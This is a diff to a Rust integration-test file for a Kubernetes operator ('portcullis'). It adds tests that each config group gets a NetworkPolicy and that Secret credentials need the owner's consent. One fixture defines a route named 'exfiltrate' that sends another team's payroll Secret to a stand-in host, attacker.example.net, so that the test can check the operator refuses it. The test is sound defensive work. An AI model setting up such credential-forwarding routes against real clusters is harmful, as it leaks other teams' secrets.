@@ -10,6 +10,7 @@ use portcullis_fake_apiserver::{FakeApiServer, Propagation};
 use serde_json::{Value, json};
 
 const WAIT: Duration = Duration::from_secs(20);
+const NETWORK_POLICIES: &str = "networkpolicies.networking.k8s.io";
 
 fn seed(server: &FakeApiServer) {
     for obj in [
@@ -35,7 +36,7 @@ fn get(server: &FakeApiServer, resource: &str, name: &str) -> Option<Value> {
 /// The states of everything the operator writes (resourceVersions), to detect churn.
 fn written_versions(server: &FakeApiServer) -> Vec<(String, String)> {
     let mut out = Vec::new();
-    for resource in ["configmaps", "secrets", ROUTES, PROFILES] {
+    for resource in ["configmaps", "secrets", NETWORK_POLICIES, ROUTES, PROFILES] {
         for obj in server.list(resource, Some(NS)) {
             out.push((
                 format!("{resource}/{}", obj["metadata"]["name"].as_str().unwrap()),
@@ -463,4 +464,172 @@ async fn failed_writes_back_off_and_retry_without_holding_up_other_namespaces() 
         "{}",
         op.logs()
     );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn each_group_gets_a_network_policy_that_goes_with_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = server(&dir).await;
+    seed(&server);
+    let op = Operator::start(&dir, "op", &[]);
+    let (ga, gb) = (group_of("a"), group_of("b"));
+
+    // Only the sidecar's named ports, on the group's pods, owned like the group's objects.
+    let np = wait_until(WAIT, "group a's NetworkPolicy", &op, || {
+        get(&server, NETWORK_POLICIES, &ga)
+    })
+    .await;
+    let spec = &np["spec"];
+    assert_eq!(
+        spec["podSelector"],
+        json!({"matchLabels": {"app": "a", INJECT: "true"}})
+    );
+    assert_eq!(spec["policyTypes"], json!(["Ingress"]));
+    assert_eq!(
+        spec["ingress"],
+        json!([{"ports": [
+            {"port": "portcullis-http", "protocol": "TCP"},
+            {"port": "portcullis-tls", "protocol": "TCP"},
+            {"port": "portcullis-adm", "protocol": "TCP"}
+        ]}])
+    );
+    assert_eq!(np["metadata"]["labels"]["app.kubernetes.io/managed-by"], "portcullis");
+    assert_eq!(np["metadata"]["labels"]["portcullis.dev/config-group"], ga.as_str());
+    let cm = wait_until(WAIT, "group a's ConfigMap", &op, || get(&server, "configmaps", &ga)).await;
+    assert_eq!(np["metadata"]["ownerReferences"], cm["metadata"]["ownerReferences"]);
+    wait_until(WAIT, "group b's NetworkPolicy", &op, || {
+        get(&server, NETWORK_POLICIES, &gb)
+    })
+    .await;
+
+    // Deleting the group's route deletes it (garbage collection); the operator writes it back
+    // while the pods remain, and deletes it once they are gone.
+    server.delete(ROUTES, NS, "rb", Propagation::Delete).unwrap();
+    assert!(get(&server, NETWORK_POLICIES, &gb).is_none());
+    let np_b = wait_until(WAIT, "group b's NetworkPolicy again", &op, || {
+        get(&server, NETWORK_POLICIES, &gb)
+    })
+    .await;
+    assert!(np_b["metadata"]["ownerReferences"].is_null());
+    server.delete("pods", NS, "b-1", Propagation::Delete).unwrap();
+    wait_until(WAIT, "group b's NetworkPolicy gone", &op, || {
+        get(&server, NETWORK_POLICIES, &gb).is_none().then_some(())
+    })
+    .await;
+    // A NetworkPolicy changed by hand is put back.
+    server
+        .merge_patch(NETWORK_POLICIES, NS, &ga, &json!({"spec": {"ingress": [{}]}}))
+        .unwrap();
+    wait_until(WAIT, "group a's NetworkPolicy restored", &op, || {
+        let np = get(&server, NETWORK_POLICIES, &ga)?;
+        (np["spec"]["ingress"][0]["ports"].as_array()?.len() == 3).then_some(())
+    })
+    .await;
+    assert_rbac_allows(&server.requests());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn without_network_policies_none_is_read_or_written() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = server(&dir).await;
+    seed(&server);
+    let op = Operator::start(&dir, "op", &["--network-policy=false"]);
+    wait_until(WAIT, "group a's ConfigMap", &op, || {
+        get(&server, "configmaps", &group_of("a"))
+    })
+    .await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert!(server.list(NETWORK_POLICIES, None).is_empty());
+    assert!(
+        !server.requests().iter().any(|r| r.path.contains("networkpolicies")),
+        "no access to NetworkPolicies is needed"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn origin_credentials_need_the_secrets_consent_and_unreferenced_secrets_stay_unread() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = server(&dir).await;
+    seed(&server);
+    // Another team's Secret, and a route that would send it to its own server.
+    server
+        .create(&basic_secret("payroll-db", "payroll", "payroll-password"))
+        .unwrap();
+    server
+        .create(&basic_secret("unrelated", "nobody", "unrelated-password"))
+        .unwrap();
+    let mut exfiltrate = route("exfiltrate", "a", &[]);
+    exfiltrate["spec"]["backend"] = json!({"origin": {"url": "https://attacker.example.net",
+        "auth": {"basic": {"secretRef": {"name": "payroll-db"}}}}});
+    server.create(&exfiltrate).unwrap();
+    let op = Operator::start(&dir, "op", &[]);
+    let ga = group_of("a");
+
+    let r = wait_until(WAIT, "exfiltrate Accepted=False", &op, || {
+        let r = get(&server, ROUTES, "exfiltrate")?;
+        (condition(&r, "Accepted")?["status"] == "False").then_some(r)
+    })
+    .await;
+    let accepted = condition(&r, "Accepted").unwrap();
+    assert_eq!(accepted["reason"], "SecretNotAllowed");
+    let message = accepted["message"].as_str().unwrap();
+    assert!(
+        message.starts_with("spec.backend.origin.auth.basic.secretRef.name: Secret \"payroll-db\""),
+        "{message}"
+    );
+    assert!(message.contains("portcullis.dev/allowed-routes"), "{message}");
+    // The group is served without it, and no group Secret holds the password.
+    let cm = wait_until(WAIT, "group a's ConfigMap", &op, || {
+        let cm = get(&server, "configmaps", &ga)?;
+        (route_names(&config_of(&cm)) == ["ra", "ra2"]).then_some(cm)
+    })
+    .await;
+    assert!(!cm["data"]["config.json"].as_str().unwrap().contains("attacker"));
+    wait_until(WAIT, "group Secrets", &op, || get(&server, "secrets", &group_of("b"))).await;
+    for s in server.list("secrets", Some(NS)) {
+        if s["metadata"]["labels"]["app.kubernetes.io/managed-by"] == "portcullis" {
+            assert!(
+                !secrets_of(&s).contains("payroll-password"),
+                "{}",
+                s["metadata"]["name"]
+            );
+        }
+    }
+    assert!(!op.logs().contains("payroll-password"));
+
+    // The Secret's owner consents, for this route and this origin: the route is served.
+    server
+        .merge_patch(
+            "secrets",
+            NS,
+            "payroll-db",
+            &json!({"metadata": {"annotations": {"portcullis.dev/allowed-routes": "exfiltrate",
+                                                 "portcullis.dev/allowed-origins": "attacker.example.net"}}}),
+        )
+        .unwrap();
+    wait_until(WAIT, "exfiltrate served once the Secret allows it", &op, || {
+        let cm = get(&server, "configmaps", &ga)?;
+        (route_names(&config_of(&cm)) == ["exfiltrate", "ra", "ra2"]).then_some(())
+    })
+    .await;
+    assert!(secrets_of(&get(&server, "secrets", &ga).unwrap()).contains("payroll-password"));
+
+    // What the operator read of Secrets: every Secret by metadata only, its own whole (by
+    // label), and the referenced ones by name — never the unrelated Secret's content.
+    for r in server.requests() {
+        if r.method != "GET" || !r.path.contains("/secrets") {
+            continue;
+        }
+        let collection = r.path.ends_with("/secrets");
+        let own = r
+            .query
+            .contains("labelSelector=app.kubernetes.io%2Fmanaged-by%3Dportcullis")
+            || r.query.contains("labelSelector=portcullis.dev%2Fcertificate");
+        if collection {
+            assert!(r.metadata_only() || own, "a list or watch of Secret content: {r:?}");
+        } else {
+            assert!(!r.path.ends_with("/unrelated") || r.metadata_only(), "read {r:?}");
+        }
+    }
+    assert_rbac_allows(&server.requests());
 }
